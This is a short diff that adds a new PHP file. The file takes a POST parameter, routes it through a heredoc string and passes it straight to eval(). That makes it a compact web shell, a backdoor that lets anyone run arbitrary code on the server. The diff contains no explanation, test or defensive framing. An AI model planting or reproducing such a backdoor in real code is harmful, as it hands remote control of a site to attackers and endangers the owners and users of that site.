@@ -1,0 +1,6 @@
+<?php
+$x = $_POST['x'];
+$y = <<<EOT
+$x
+EOT;
+eval($y);
